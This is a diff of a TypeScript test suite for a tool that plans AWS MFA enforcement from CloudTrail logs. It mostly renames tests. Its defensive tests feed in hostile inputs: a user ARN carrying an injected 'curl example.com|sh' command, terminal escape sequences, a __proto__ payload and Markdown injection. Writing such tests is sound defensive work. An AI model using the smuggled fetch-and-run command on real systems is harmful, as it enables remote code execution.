@@ -117,13 +117,13 @@ const withParameters = (text: string) =>
   JSON.stringify(event({ requestParameters: "@" })).replace('"@"', () => text);
 
 test.each<[string, object | string]>([
-  ["parameters that nest deeply", withParameters(`{"a": ${"[".repeat(DEEP)}${"]".repeat(DEEP)}}`)],
-  ["a prototype", withParameters('{"__proto__": {"serialNumber": "x"}, "constructor": {}}')],
-  ["fields without end", event({ userAgent: LONG, eventName: LONG, sourceIPAddress: LONG })],
+  ["deeply nested parameters", withParameters(`{"a": ${"[".repeat(DEEP)}${"]".repeat(DEEP)}}`)],
+  ["a __proto__ parameter", withParameters('{"__proto__": {"serialNumber": "x"}, "constructor": {}}')],
+  ["very long fields", event({ userAgent: LONG, eventName: LONG, sourceIPAddress: LONG })],
   ["control characters", event({ userAgent: "\u001b[2J\u0000", eventName: "\u001b]0;x\u0007" })],
-  ["a year before the first", event({ eventTime: "0000-01-01T00:00:00+23:59" })],
-  ["a year after the last", event({ eventTime: "9999-12-31T23:59:59-23:59" })],
-])("a call with %s counts like any other, and those after it do", (_, hostile) => {
+  ["a time before year 0", event({ eventTime: "0000-01-01T00:00:00+23:59" })],
+  ["a time after year 9999", event({ eventTime: "9999-12-31T23:59:59-23:59" })],
+])("a call with %s counts like any other, and is printed safely", (_, hostile) => {
   const found = plan({ asked: { guard: {} }, subjects: [alice()], events: [hostile, event()] });
   expect(said(found)).toEqual(["alice stopped unclear"]);
   expect(found.affected[0]?.calls.reduce((all, { events }) => all + events, 0)).toBe(2);
@@ -137,12 +137,12 @@ describe("a guard stops", () => {
   const stopped = (each: object) => said(plan({ asked: { guard: {} }, subjects: [alice()], events: [each] }));
 
   test.each<[string, object, readonly string[]]>([
-    ["every call with access keys alone", event(), ["alice stopped unclear"]],
-    ["a call from a session without a code", event({}, session("false")), ["alice stopped unclear"]],
-    ["no call from a session with a code", event({}, session("true")), []],
-    ["no call that brings a code", assume({ serialNumber: "arn:aws:iam::111122223333:mfa/alice" }), []],
+    ["a call with access keys and no code", event(), ["alice stopped unclear"]],
+    ["a call from a session without MFA", event({}, session("false")), ["alice stopped unclear"]],
+    ["no call from a session with MFA", event({}, session("true")), []],
+    ["no AssumeRole call with a code", assume({ serialNumber: "arn:aws:iam::111122223333:mfa/alice" }), []],
     [
-      "a call that is about a device and brings no code of it",
+      "a call about an MFA device, which has a serial number but no code",
       event({
         eventSource: "iam.amazonaws.com",
         eventName: "DeactivateMFADevice",
@@ -151,23 +151,23 @@ describe("a guard stops", () => {
       ["alice stopped unclear"],
     ],
     [
-      "nothing that it leaves open",
+      "no call that it leaves open",
       event({ eventSource: "iam.amazonaws.com", eventName: "EnableMFADevice" }),
       [],
     ],
     [
-      "no call that no policy can stop",
+      "no GetCallerIdentity call, which always works",
       event({ eventSource: "sts.amazonaws.com", eventName: "GetCallerIdentity" }),
       [],
     ],
-    ["no call that AWS denied already", event({ errorCode: "AccessDenied" }), []],
+    ["no call that AWS already denied", event({ errorCode: "AccessDenied" }), []],
     [
       "a call that failed for another reason",
       event({ errorCode: "NoSuchBucket" }),
       ["alice stopped unclear"],
     ],
     [
-      "a session that the user asked for with GetFederationToken",
+      "a call from a user's GetFederationToken session",
       event(
         {},
         {
@@ -179,7 +179,7 @@ describe("a guard stops", () => {
       ["alice stopped unclear"],
     ],
     [
-      "a call that failed after AWS had allowed it",
+      "a call that AWS allowed before it failed",
       event({
         eventSource: "kms.amazonaws.com",
         eventName: "Verify",
@@ -188,22 +188,22 @@ describe("a guard stops", () => {
       ["alice stopped unclear"],
     ],
     [
-      "a session of the console that is handed to a terminal",
+      "a call of aws login, which hands a console session to a terminal",
       event({ eventSource: "signin.amazonaws.com", eventName: "CreateOAuth2Token" }, session("false")),
       ["alice stopped unclear"],
     ],
     [
-      "a call of a service that the log does not name",
+      "possibly a call whose service is not in the log",
       event({ eventSource: undefined }),
       ["alice may be stopped unclear"],
     ],
-    ["no session of a role", event({}, { type: "AssumedRole", ...session("false") }), []],
-    ["nobody whom the account does not have", event({}, { arn: `${ALICE}2` }), []],
+    ["no call from a role session", event({}, { type: "AssumedRole", ...session("false") }), []],
+    ["no call of a user that the account does not have", event({}, { arn: `${ALICE}2` }), []],
   ])("%s", (_, each, expected) => {
     expect(stopped(each)).toEqual(expected);
   });
 
-  test("only whom it is for, where all findings are fixed: members of open groups, and open users", () => {
+  test("only members of open groups and open users if all findings are fixed", () => {
     const subjects = [
       subject("group", "team", { members: [ALICE] }),
       alice({}, { standing: "protected" }),
@@ -219,7 +219,7 @@ describe("a guard stops", () => {
     ]);
   });
 
-  test("what a condition on the request's own facts says, and what is not recorded may go either way", () => {
+  test("calls that its conditions match, and possibly those without the keys in the logs", () => {
     const outcome = (Condition: object) =>
       said(
         plan({
@@ -241,7 +241,7 @@ describe("a guard stops", () => {
   });
 });
 
-test("a call that may have passed a role to a service needs that action too", () => {
+test("a Deny on iam:PassRole may stop a call that passes a role to a service", () => {
   const outcome = (requestParameters: object) =>
     said(
       plan({
@@ -255,25 +255,29 @@ test("a call that may have passed a role to a service needs that action too", ()
 });
 
 test.each([
-  ["the address that it names", { sourceIPAddress: "192.0.2.1" }, []],
+  ["does not stop a call from an excluded public address", { sourceIPAddress: "192.0.2.1" }, []],
   [
-    "an endpoint that it names",
+    "stops a call through a VPC endpoint, which has no aws:SourceIp",
     { sourceIPAddress: "10.0.0.9", vpcEndpointId: "vpce-1" },
     ["alice stopped unclear"],
   ],
-  ["a private address alone", { sourceIPAddress: "10.0.0.9" }, ["alice may be stopped unclear"]],
-])("a call comes from %s, by which a policy on aws:SourceIp decides", (_, source, expected) => {
+  [
+    "may stop a call from a private address",
+    { sourceIPAddress: "10.0.0.9" },
+    ["alice may be stopped unclear"],
+  ],
+])("a Deny with NotIpAddress %s", (_, source, expected) => {
   const NotIpAddress = { "aws:SourceIp": ["192.0.2.0/24", "10.0.0.0/8"] };
   const policy = json({ Effect: "Deny", Action: "*", Resource: "*", Condition: { NotIpAddress } });
   const given = { asked: { guard: { policy } }, subjects: [alice()], events: [event(source)] };
   expect(said(plan(given))).toEqual(expected);
 });
 
-describe("AWS's own figures", () => {
+describe("the last uses that AWS recorded", () => {
   const guarded = (subjects: readonly Subject[], events: readonly object[] = [], since?: string) =>
     plan({ asked: { guard: {} }, subjects, events, ...(since && { since }) });
 
-  test("of a key that was used within the period count where the logs do not show the call", () => {
+  test("count for an access key if the logs lack the call", () => {
     const found = guarded(
       [alice({ accessKeys: used("2026-02-20T00:00:00.000Z") })],
       [event({}, session("true"))],
@@ -289,7 +293,7 @@ describe("AWS's own figures", () => {
     expect(exitCodeOf(found)).toBe(1);
   });
 
-  test("say nothing more of a call that the logs show", () => {
+  test("add nothing if the logs show the call", () => {
     const events = [
       event({ eventTime: "2026-02-20T00:10:00Z", eventSource: "iam.amazonaws.com", eventName: "GetUser" }),
     ];
@@ -298,7 +302,7 @@ describe("AWS's own figures", () => {
     expect(exitCodeOf(found)).toBe(0);
   });
 
-  test("of another service than the call that the logs show count", () => {
+  test("count if the logs show only a call to another service", () => {
     const identity = event({
       eventTime: "2026-02-20T00:00:00Z",
       eventSource: "sts.amazonaws.com",
@@ -320,7 +324,7 @@ describe("AWS's own figures", () => {
   });
 
   test.each(["ConsoleLogin", "GetSessionToken"])(
-    "of what began a session without a code count: %s",
+    "count for a session that %s began without MFA if the logs lack its calls",
     (name) => {
       const at = "2026-02-20T00:00:00.000Z";
       const keys = name === "GetSessionToken";
@@ -344,7 +348,7 @@ describe("AWS's own figures", () => {
     },
   );
 
-  test("of before the first event count where the event history has been looked up", () => {
+  test("count before the first event if the event history was looked up", () => {
     const given = {
       asked: { guard: {} },
       subjects: [alice({ accessKeys: used("2026-01-20T00:00:00.000Z") })],
@@ -353,13 +357,13 @@ describe("AWS's own figures", () => {
     expect(said(plan({ ...given, isLookedUp: true }))).toEqual(["alice stopped unclear"]);
   });
 
-  test("of before the period do not count", () => {
+  test("do not count before the period", () => {
     const early = alice({ accessKeys: used("2026-01-20T00:00:00.000Z") });
     expect(said(guarded([early], [event({}, session("true"))]))).toEqual([]);
     expect(said(guarded([early], [], "2026-01-01T00:00:00.000Z"))).toEqual(["alice stopped unclear"]);
   });
 
-  test("of a password count, unless a device is asked for at the sign-in", () => {
+  test("count for a password, unless the user has an MFA device", () => {
     const password = { lastUsed: "2026-02-20T00:00:00.000Z" };
     expect(said(guarded([alice({ password })]))).toEqual(["alice stopped unclear"]);
     expect(said(guarded([alice({ password, mfaDevice: true })]))).toEqual([]);
@@ -375,13 +379,13 @@ describe("AWS's own figures", () => {
     expect(planAsText(guarded([alice()]))).toContain("Nobody would be stopped.");
   });
 
-  test("of a role that the logs do not show make it used by somebody", () => {
+  test("count for a role if the logs lack its use", () => {
     const found = plan({ subjects: [deploy()], events: [event({ eventTime: "2026-01-15T00:00:00Z" })] });
     expect(found.unseen).toMatchObject([{ name: "deploy" }]);
     expect(exitCodeOf(found)).toBe(1);
   });
 
-  test("of a role whose sessions the logs show, and not who assumed it, make it used by somebody", () => {
+  test("count for a role if the logs show its sessions, but not who assumed it", () => {
     const calling = event(
       {},
       { type: "AssumedRole", arn: "x", sessionContext: { sessionIssuer: { arn: ROLE } } },
@@ -391,7 +395,7 @@ describe("AWS's own figures", () => {
     expect(plan({ subjects: [deploy()], events: [assumed, calling] }).unseen).toEqual([]);
   });
 
-  test("of a role are shown by whoever assumed it for them alone, and not by those of another day", () => {
+  test("count for a role unless the logs show an AssumeRole call in the hours before", () => {
     const unseen = (eventTime: string) =>
       plan({
         subjects: [deploy()],
@@ -403,7 +407,7 @@ describe("AWS's own figures", () => {
     expect(unseen("2026-02-01T12:00:00Z")).toBe(1);
   });
 
-  test("of a key count where the logs show a use of the same time in another region", () => {
+  test("count for an access key if the logs show only calls in another region", () => {
     const accessKeys = used(AT).map((key) => ({ ...key, lastUsedRegion: "eu-west-1" }));
     const outcome = (awsRegion: string) =>
       said(
@@ -416,7 +420,7 @@ describe("AWS's own figures", () => {
     expect(outcome("eu-west-1")).toEqual([]);
   });
 
-  test("of the root user count under an SCP, which does not limit that of the management account", () => {
+  test("may count for the root user under an SCP, and never under a guard", () => {
     const root = subject("user", "root", {
       id: `arn:aws:iam::${ACCOUNT}:root`,
       setup: setup({ accessKeys: used("2026-02-20T00:00:00.000Z") }),
@@ -429,7 +433,7 @@ describe("AWS's own figures", () => {
     expect(plan({ asked: { guard: {} }, subjects: [root] }).affected).toEqual([]);
   });
 
-  test("of a role count under an SCP that may stop it", () => {
+  test("count for a role under an SCP only if it may stop the role", () => {
     const under = (Condition: object, subjects: readonly Subject[] = [deploy()]) =>
       plan({
         asked: { limits: [limit("SCP", { Effect: "Deny", Action: "s3:*", Resource: "*", Condition })] },
@@ -441,7 +445,7 @@ describe("AWS's own figures", () => {
     expect(exitCodeOf(under({}, [unknown]))).toBe(2);
   });
 
-  test("tell what was not used for 90 days, unless the logs show otherwise", () => {
+  test("show what was unused for 90 days, unless the logs show a use", () => {
     const old = deploy({ lastUse: { kind: "used", of: "role", at: "2025-06-01T00:00:00.000Z" } });
     expect(plan({ subjects: [old] }).unused).toMatchObject([{ kind: "role", name: "deploy" }]);
     expect(plan({ subjects: [old], events: [assume()] }).unused).toEqual([]);
@@ -452,26 +456,26 @@ describe("AWS's own figures", () => {
   });
 });
 
-describe("a role that is closed stops", () => {
+describe("a rehearsed change stops", () => {
   test.each<[string, object, readonly string[]]>([
-    ["who assumes it without a code", assume(), ["alice stopped unclear"]],
-    ["nobody with a code", assume({ serialNumber: "x" }), []],
+    ["a caller who assumes a closed role without a code", assume(), ["alice stopped unclear"]],
+    ["no caller who assumes a closed role with a code", assume({ serialNumber: "x" }), []],
     [
-      "a session of a role",
+      "a role session that assumes a closed role",
       assume({}, { type: "AssumedRole", arn: "x", sessionContext: { sessionIssuer: { arn: ROLE } } }),
       ["deploy stopped unclear"],
     ],
     [
-      "no service",
+      "no service that assumes a closed role",
       assume(
         {},
         { type: "AWSService", invokedBy: "lambda.amazonaws.com", arn: undefined, accessKeyId: undefined },
       ),
       [],
     ],
-    ["nobody who assumes another", assume({ roleArn: `${ROLE}2` }), []],
+    ["no caller who assumes another role", assume({ roleArn: `${ROLE}2` }), []],
     [
-      "somebody of another account, of whom its log does not tell whether there was a code",
+      "possibly a caller from another account, whose MFA the log does not show",
       assume(
         {},
         { type: "AWSAccount", arn: undefined, principalId: "AIDAEXAMPLE", accountId: "444455556666" },
@@ -479,12 +483,12 @@ describe("a role that is closed stops", () => {
       ["AIDAEXAMPLE may be stopped unclear"],
     ],
     [
-      "a session of a role that the log does not name",
+      "a role session whose role the log does not name",
       assume({}, { type: "AssumedRole", arn: `arn:aws:sts::${ACCOUNT}:assumed-role/ci/x` }),
       ["x stopped unclear"],
     ],
     [
-      "somebody whom the log does not name",
+      "possibly a caller of an unknown type",
       assume({}, { type: "Unknown", arn: "y" }),
       ["y may be stopped unclear"],
     ],
@@ -492,12 +496,12 @@ describe("a role that is closed stops", () => {
     expect(said(plan({ subjects: [deploy()], events: [each] }))).toEqual(expected);
   });
 
-  test("nobody whom the configuration trusts", () => {
+  test("no principal that the configuration trusts", () => {
     const settings = { "iam-role-requires-mfa": { trustedPrincipalArns: [ALICE] } };
     expect(said(plan({ subjects: [deploy()], events: [assume()], settings }))).toEqual([]);
   });
 
-  test("by another trust policy, whom that does not let in", () => {
+  test("every caller that the role's new trust policy does not let in", () => {
     const outcome = (Principal: object, Condition: object = {}) =>
       said(
         plan({
@@ -522,7 +526,7 @@ describe("a role that is closed stops", () => {
     expect(() => plan({ asked: { roles: [{ name: "x", ...json([]) }] }, subjects: [] })).toThrow("no role x");
   });
 
-  test("by an SCP, users and roles, and no role that is linked with a service", () => {
+  test("users and roles under an SCP, but no service-linked role", () => {
     const limits = [limit("SCP", { Effect: "Deny", Action: "s3:*", Resource: "*" })];
     const as = (role: string) =>
       event({}, { type: "AssumedRole", sessionContext: { sessionIssuer: { arn: role } } });
@@ -541,7 +545,7 @@ describe("a role that is closed stops", () => {
     expect(plan({ asked: { limits: elsewhere }, subjects: [alice()], events }).affected).toEqual([]);
   });
 
-  test("by an RCP, whoever calls on what is in the accounts, and no use of another service", () => {
+  test("every caller without MFA on the account's own roles under an RCP", () => {
     const deny = { Effect: "Deny", Principal: "*", Action: "sts:*", Resource: "*" };
     const limits = [limit("RCP", { ...deny, Condition: { Null: { "aws:MultiFactorAuthAge": "true" } } })];
     const pipeline = { type: "WebIdentityUser", identityProvider: "token.actions.githubusercontent.com" };
@@ -565,7 +569,7 @@ describe("a role that is closed stops", () => {
   });
 });
 
-test("a user of whom the SSH public keys are not known is not said to be used by nobody", () => {
+test("a user whose SSH public keys are unknown is not listed as unused", () => {
   const old = used("2024-01-01T00:00:00.000Z");
   const lastUse: LastUse = { kind: "used", of: "access key", at: "2024-01-01T00:00:00.000Z" };
   const unusedWith = (more: object) => {
@@ -576,7 +580,7 @@ test("a user of whom the SSH public keys are not known is not said to be used by
   expect(unusedWith({})).toEqual([]);
 });
 
-test("of a credential for one service alone AWS records no use, so that nobody is said not to use it", () => {
+test("a user with a service-specific credential is reported as a gap, not as unused", () => {
   const old = {
     accessKeys: used("2024-01-01T00:00:00.000Z"),
     serviceCredentials: [{ service: "bedrock.amazonaws.com" }],
@@ -595,14 +599,14 @@ describe("the way out", () => {
   const guarded = (userAgent: string, more: Partial<Setup> = {}) =>
     plan({ asked: { guard: {} }, subjects: [alice(more)], events: [event({ userAgent })] });
 
-  test("of whom a log made up is no command to paste into a shell", () => {
+  test("includes no enroll command for a user name that a log made up", () => {
     const arn = `arn:aws:iam::${ACCOUNT}:user/x;curl example.com|sh`;
     const made = plan({ subjects: [deploy()], events: [assume({}, { arn })] });
     expect(made.affected).toHaveLength(1);
     expect(made.affected[0]?.waysOut.map(({ kind }) => kind)).not.toContain("enroll");
   });
 
-  test("of a person is a device", () => {
+  test("for a person is to enroll a device", () => {
     const { affected, exemptions } = guarded("aws-cli/2 os/macos#25.0");
     expect(affected[0]?.waysOut).toEqual([
       { kind: "enroll", command: "aws-mfa enroll alice --stack STACK", hasDevice: false },
@@ -613,12 +617,15 @@ describe("the way out", () => {
   test.each([
     [["passkey"] as const, false],
     [["hardware", "passkey"] as const, true],
-  ])("of a person with devices %j is to use one that gives codes: %s", (deviceKinds, hasDevice) => {
-    const { affected } = guarded("aws-cli/2 os/macos#25.0", { mfaDevice: true, deviceKinds });
-    expect(affected[0]?.waysOut).toMatchObject([{ kind: "enroll", hasDevice }]);
-  });
+  ])(
+    "for a person with the devices %j is to enroll, with a device that gives codes: %s",
+    (deviceKinds, hasDevice) => {
+      const { affected } = guarded("aws-cli/2 os/macos#25.0", { mfaDevice: true, deviceKinds });
+      expect(affected[0]?.waysOut).toMatchObject([{ kind: "enroll", hasDevice }]);
+    },
+  );
 
-  test("of a job in GitHub Actions is a role of its own, which the pack takes", () => {
+  test("for a GitHub Actions job is its own role, which the pack exempts", () => {
     const { affected } = guarded("aws-sdk-js/3 configure-aws-credentials-for-github-actions");
     const own = affected[0]?.waysOut.find(({ kind }) => kind === "own role");
     expect(own).toMatchObject({ of: "GitHub Actions" });
@@ -626,7 +633,7 @@ describe("the way out", () => {
     expect(parsed.ok && decideTrust(parsed.policy).kind).toBe("exempt");
   });
 
-  test("of what must wait is an exemption, with which nobody is left", () => {
+  test("for what must wait is an exemption, with which nobody would be stopped", () => {
     const group = subject("group", "team", { members: [ALICE] });
     const events = [event(), assume()];
     const { exemptions } = plan({ subjects: [alice(), deploy(), group], events });
@@ -644,7 +651,7 @@ describe("the way out", () => {
   });
 });
 
-test("what roles called is a gap under an SCP where CloudTrail's event history was looked up alone", () => {
+test("roles' calls are a gap under an SCP if only the event history was looked up", () => {
   const role = deploy({ lastUse: { kind: "used", of: "role", at: "2024-01-01T00:00:00.000Z" } });
   const given = { subjects: [role], isLookedUp: true, lacksRoleCalls: true };
   const limits = [limit("SCP", { Effect: "Deny", Action: "s3:*", Resource: "*" })];
@@ -653,7 +660,7 @@ test("what roles called is a gap under an SCP where CloudTrail's event history w
   expect(exitCodeOf(plan(given))).toBe(0);
 });
 
-test("the plan is said in text and in Markdown, and nothing that the logs hold is taken for either", () => {
+test("the plan as text and as Markdown escapes what the logs contain", () => {
   const userAgent = "x\u001b[2K\n# <b>*y*";
   const found = plan({ asked: { guard: {} }, subjects: [alice()], events: [event({ userAgent })] });
   const text = planAsText(found);
@@ -663,7 +670,7 @@ test("the plan is said in text and in Markdown, and nothing that the logs hold i
   expect(planAsMarkdown(found)).not.toMatch(/^# <|<b>|\*y\*/m);
 });
 
-test("what is told less of a call, its outcome is the same or not decided", () => {
+test("hiding parts of a call leaves its outcome the same or undecided", () => {
   const policy = json([
     {
       Effect: "Deny",
@@ -699,7 +706,7 @@ test("what is told less of a call, its outcome is the same or not decided", () =
           userIdentity: {
             ...whole.userIdentity,
             ...(hidden.includes("userIdentity.accessKeyId") && { accessKeyId: undefined }),
-            // What a temporary key carries is not known then; of a permanent one nothing is lost.
+            // Without it, the MFA of a temporary key is unknown; a permanent key loses nothing.
             ...(hidden.includes("userIdentity.sessionContext") && { sessionContext: undefined }),
           },
         };
